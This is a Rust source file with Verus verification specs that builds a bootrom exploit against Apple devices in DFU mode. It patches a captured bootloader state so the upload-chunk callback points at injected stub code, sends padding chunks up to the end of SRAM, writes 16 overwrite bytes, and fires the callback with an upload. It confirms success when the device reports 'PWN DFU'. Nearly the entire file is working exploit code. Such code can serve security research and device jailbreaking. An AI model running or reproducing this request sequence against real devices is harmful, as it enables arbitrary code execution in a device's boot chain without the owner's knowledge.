use crate::dfu::{bytes_to_vec, DfuOp, DfuRequest};
use crate::error::AppleDeviceError;
use crate::image::{fill, le32, push_fill, read_le32};
use crate::mode::Mode;
use vstd::prelude::*;
use vstd::string::StringSliceAdditionalSpecFns;

verus! {

/// Size of the bootloader's runtime state record.
pub const BOOTROM_STATE_LEN: usize = 0x640;
/// Offset of `dfu_buf`, the base address of the download buffer.
pub const OFF_DFU_BUF: usize = 0x00;
/// Offset of the `usb_upload_complete` flag.
pub const OFF_USB_UPLOAD_COMPLETE: usize = 0x10;
/// Offset of the `dfu_on_upload_chunk` callback pointer.
pub const OFF_DFU_ON_UPLOAD_CHUNK: usize = 0x1C;
/// Offset of the `dfu_loop_run` flag.
pub const OFF_DFU_LOOP_RUN: usize = 0x28;
/// Offset of the `dfu_image_ready` flag.
pub const OFF_DFU_IMAGE_READY: usize = 0x29;
/// Offset of `dfu_recursive_state`.
pub const OFF_DFU_RECURSIVE_STATE: usize = 0x3C;
/// Value written to `dfu_recursive_state`.
pub const RECURSIVE_STATE_TARGET: u32 = 0x2202e380;
/// Where, inside the download buffer, the stub code lands.
pub const STUB_OFFSET: usize = 0x400;
/// Size of the block that carries the stub code.
pub const STUB_BLOCK_LEN: usize = 0x780;
/// Size of the alignment filler sent after the stub block.
pub const FILLER_LEN: usize = 0x100;
/// Size of each positional padding chunk.
pub const PADDING_CHUNK_LEN: usize = 0x40;
/// Number of padding chunks that bring the write cursor to the end of SRAM.
pub const PADDING_CHUNKS: usize = (0x24C0 - 0x640 - 0x100 - 0x780) / 0x40;
/// Size of the last, shorter padding chunk.
pub const LAST_PADDING_LEN: usize = 0x30;
/// Size of the scratch buffer of the upload that fires the callback.
pub const UPLOAD_LEN: usize = 0x40;

/// The 16 bytes that replace the last slot at the end of SRAM.
pub open spec fn overwrite_bytes() -> Seq<u8> {
    seq![
        0x67u8, 0x10u8, 0x58u8, 0xbau8, 0x00u8, 0x00u8, 0x00u8, 0x00u8,
        0x80u8, 0xe3u8, 0x02u8, 0x22u8, 0x00u8, 0xd9u8, 0x02u8, 0x22u8,
    ]
}

/// The product name that a device reports once the exploit took effect: "PWN DFU".
pub open spec fn pwned_name() -> Seq<u8> {
    seq![0x50u8, 0x57u8, 0x4Eu8, 0x20u8, 0x44u8, 0x46u8, 0x55u8]
}

/// `s` with the little-endian bytes of `v` written at `off`.
pub open spec fn put_le32(s: Seq<u8>, off: int, v: nat) -> Seq<u8> {
    s.update(off, le32(v)[0]).update(off + 1, le32(v)[1]).update(off + 2, le32(v)[2]).update(
        off + 3,
        le32(v)[3],
    )
}

/// Whether a captured state can be patched: it has the record's size and
/// the download buffer base plus 0x400 stays a 32-bit address.
pub open spec fn state_patchable(s: Seq<u8>) -> bool {
    s.len() == BOOTROM_STATE_LEN && read_le32(s, OFF_DFU_BUF as int) + 0x400 <= 0xFFFF_FFFF
}

/// The captured state with the exploit's patches: the recursion state set
/// to its target, the upload-complete and image-ready flags cleared, the
/// loop-run flag set, and the upload-chunk callback redirected to the
/// download buffer base plus 0x400.
pub open spec fn patched_state(s: Seq<u8>) -> Seq<u8> {
    let s1 = put_le32(s, OFF_DFU_RECURSIVE_STATE as int, RECURSIVE_STATE_TARGET as nat);
    let s2 = s1.update(OFF_USB_UPLOAD_COMPLETE as int, 0).update(
        OFF_DFU_IMAGE_READY as int,
        0,
    ).update(OFF_DFU_LOOP_RUN as int, 1);
    put_le32(
        s2,
        OFF_DFU_ON_UPLOAD_CHUNK as int,
        (read_le32(s, OFF_DFU_BUF as int) + STUB_OFFSET) as nat,
    )
}

/// The block that carries the stub: zeros with the stub code at 0x400.
pub open spec fn stub_block(stub: Seq<u8>) -> Seq<u8> {
    fill(0, STUB_OFFSET as nat) + stub + fill(0, (STUB_BLOCK_LEN - STUB_OFFSET - stub.len()) as nat)
}

/// `n` zero chunks of the padding size, each followed by a status query.
pub open spec fn padding_ops(n: nat) -> Seq<DfuOp>
    decreases n,
{
    if n == 0 {
        Seq::empty()
    } else {
        padding_ops((n - 1) as nat) + seq![
            DfuOp::Dnload(fill(0, PADDING_CHUNK_LEN as nat)),
            DfuOp::GetStatus,
        ]
    }
}

/// The exploit's requests, in order.
pub open spec fn hax_ops(state: Seq<u8>, stub: Seq<u8>) -> Seq<DfuOp> {
    seq![
        DfuOp::ClrStatus,
        DfuOp::Dnload(stub_block(stub)),
        DfuOp::GetStatus,
        DfuOp::Dnload(fill(0, FILLER_LEN as nat)),
        DfuOp::GetStatus,
        DfuOp::Dnload(patched_state(state)),
        DfuOp::GetStatus,
    ] + padding_ops(PADDING_CHUNKS as nat) + seq![
        DfuOp::Dnload(fill(0, LAST_PADDING_LEN as nat)),
        DfuOp::GetStatus,
        DfuOp::Dnload(overwrite_bytes()),
        DfuOp::GetStatus,
        DfuOp::ClrStatus,
        DfuOp::Upload(UPLOAD_LEN as nat),
        DfuOp::GetStatus,
    ]
}

/// The contents of a list of requests.
pub open spec fn ops_of(reqs: Seq<DfuRequest>) -> Seq<DfuOp> {
    reqs.map_values(|q: DfuRequest| q@)
}

/// Writes the little-endian bytes of `x` at `off`.
fn set_le32(v: &mut Vec<u8>, off: usize, x: u32)
    requires
        off + 4 <= old(v)@.len(),
    ensures
        final(v)@ == put_le32(old(v)@, off as int, x as nat),
{
    let len = v.len();
    assert(off + 4 <= len);
    v[off] = (x % 256) as u8;
    v[off + 1] = (x / 256 % 256) as u8;
    v[off + 2] = (x / 256 / 256 % 256) as u8;
    v[off + 3] = (x / 256 / 256 / 256 % 256) as u8;
}

/// Reads the little-endian 32-bit number at `off`.
fn get_le32(v: &[u8], off: usize) -> (r: u32)
    requires
        off + 4 <= v@.len(),
    ensures
        r as nat == read_le32(v@, off as int),
{
    v[off] as u32 + v[off + 1] as u32 * 256 + v[off + 2] as u32 * 65536 + v[off + 3] as u32
        * 16777216
}

/// Applies the exploit's patches to a captured bootloader state; a state of
/// the wrong size, or whose buffer base would overflow, is malformed.
pub fn patch_bootrom_state(state: &[u8]) -> (r: Result<Vec<u8>, AppleDeviceError>)
    ensures
        state_patchable(state@) <==> r is Ok,
        r matches Ok(p) ==> p@ == patched_state(state@),
        !state_patchable(state@) ==> r == Err::<Vec<u8>, AppleDeviceError>(
            AppleDeviceError::Unknown,
        ),
{
    if state.len() != BOOTROM_STATE_LEN {
        return Err(AppleDeviceError::Unknown);
    }
    let dfu_buf = get_le32(state, OFF_DFU_BUF);
    if dfu_buf > 0xFFFF_FFFF - STUB_OFFSET as u32 {
        return Err(AppleDeviceError::Unknown);
    }
    let mut s = bytes_to_vec(state);
    set_le32(&mut s, OFF_DFU_RECURSIVE_STATE, RECURSIVE_STATE_TARGET);
    s[OFF_USB_UPLOAD_COMPLETE] = 0;
    s[OFF_DFU_IMAGE_READY] = 0;
    s[OFF_DFU_LOOP_RUN] = 1;
    set_le32(&mut s, OFF_DFU_ON_UPLOAD_CHUNK, dfu_buf + STUB_OFFSET as u32);
    Ok(s)
}

/// `n` zero bytes.
fn zeros(n: usize) -> (r: Vec<u8>)
    ensures
        r@ == fill(0, n as nat),
{
    let mut v: Vec<u8> = Vec::new();
    push_fill(&mut v, 0, n);
    assert(v@ =~= fill(0, n as nat));
    v
}

/// Builds the block that carries the stub code.
fn build_stub_block(stub: &[u8]) -> (r: Vec<u8>)
    requires
        stub@.len() <= STUB_BLOCK_LEN - STUB_OFFSET,
    ensures
        r@ == stub_block(stub@),
{
    let mut v: Vec<u8> = zeros(STUB_OFFSET);
    let mut i: usize = 0;
    while i < stub.len()
        invariant
            i <= stub@.len(),
            v@ == fill(0, STUB_OFFSET as nat) + stub@.subrange(0, i as int),
        decreases stub@.len() - i,
    {
        v.push(stub[i]);
        i = i + 1;
        assert(v@ =~= fill(0, STUB_OFFSET as nat) + stub@.subrange(0, i as int));
    }
    assert(stub@.subrange(0, stub@.len() as int) =~= stub@);
    push_fill(&mut v, 0, STUB_BLOCK_LEN - STUB_OFFSET - stub.len());
    v
}

/// Appends a request, keeping track of the contents.
fn push_req(plan: &mut Vec<DfuRequest>, q: DfuRequest)
    ensures
        ops_of(final(plan)@) == ops_of(old(plan)@).push(q@),
{
    plan.push(q);
    assert(ops_of(final(plan)@) =~= ops_of(old(plan)@).push(q@));
}

/// The exploit's requests for a captured bootloader state and stub code,
/// in the order in which they are to be issued; after the last one the
/// product name is read back and checked with `check_product_name`.
/// Only in the DFU stage; a malformed state gives `Unknown`.
pub fn hax_plan(mode: Mode, state: &[u8], stub: &[u8]) -> (r: Result<
    Vec<DfuRequest>,
    AppleDeviceError,
>)
    requires
        stub@.len() <= STUB_BLOCK_LEN - STUB_OFFSET,
    ensures
        r is Ok <==> mode == Mode::DFU && state_patchable(state@),
        mode != Mode::DFU ==> r == Err::<Vec<DfuRequest>, AppleDeviceError>(
            AppleDeviceError::WrongMode,
        ),
        mode == Mode::DFU && !state_patchable(state@) ==> r == Err::<
            Vec<DfuRequest>,
            AppleDeviceError,
        >(AppleDeviceError::Unknown),
        r matches Ok(plan) ==> ops_of(plan@) == hax_ops(state@, stub@),
{
    if mode != Mode::DFU {
        return Err(AppleDeviceError::WrongMode);
    }
    let patched = match patch_bootrom_state(state) {
        Ok(p) => p,
        Err(e) => {
            return Err(e);
        },
    };
    let mut plan: Vec<DfuRequest> = Vec::new();
    push_req(&mut plan, DfuRequest::ClrStatus);
    push_req(&mut plan, DfuRequest::Dnload(build_stub_block(stub)));
    push_req(&mut plan, DfuRequest::GetStatus);
    push_req(&mut plan, DfuRequest::Dnload(zeros(FILLER_LEN)));
    push_req(&mut plan, DfuRequest::GetStatus);
    push_req(&mut plan, DfuRequest::Dnload(patched));
    push_req(&mut plan, DfuRequest::GetStatus);
    let ghost head = ops_of(plan@);
    let mut i: usize = 0;
    while i < PADDING_CHUNKS
        invariant
            i <= PADDING_CHUNKS,
            ops_of(plan@) == head + padding_ops(i as nat),
        decreases PADDING_CHUNKS - i,
    {
        push_req(&mut plan, DfuRequest::Dnload(zeros(PADDING_CHUNK_LEN)));
        push_req(&mut plan, DfuRequest::GetStatus);
        i = i + 1;
        assert(ops_of(plan@) =~= head + padding_ops(i as nat));
    }
    push_req(&mut plan, DfuRequest::Dnload(zeros(LAST_PADDING_LEN)));
    push_req(&mut plan, DfuRequest::GetStatus);
    let overwrite: Vec<u8> = vec![
        0x67, 0x10, 0x58, 0xba, 0x00, 0x00, 0x00, 0x00,
        0x80, 0xe3, 0x02, 0x22, 0x00, 0xd9, 0x02, 0x22,
    ];
    assert(overwrite@ =~= overwrite_bytes());
    push_req(&mut plan, DfuRequest::Dnload(overwrite));
    push_req(&mut plan, DfuRequest::GetStatus);
    push_req(&mut plan, DfuRequest::ClrStatus);
    push_req(&mut plan, DfuRequest::Upload(UPLOAD_LEN));
    push_req(&mut plan, DfuRequest::GetStatus);
    assert(ops_of(plan@) =~= hax_ops(state@, stub@));
    Ok(plan)
}

/// The exploit's last check: it took effect exactly when the device's
/// product name reads "PWN DFU".
pub fn check_product_name(name: &str) -> (r: Result<(), AppleDeviceError>)
    ensures
        r is Ok <==> name.spec_bytes() == pwned_name(),
        r is Err ==> r == Err::<(), AppleDeviceError>(AppleDeviceError::Unknown),
{
    let b = name.as_bytes();
    let ok = b.len() == 7 && b[0] == 0x50 && b[1] == 0x57 && b[2] == 0x4E && b[3] == 0x20 && b[4]
        == 0x44 && b[5] == 0x46 && b[6] == 0x55;
    if ok {
        assert(b@ =~= pwned_name());
        Ok(())
    } else {
        Err(AppleDeviceError::Unknown)
    }
}

} // verus!
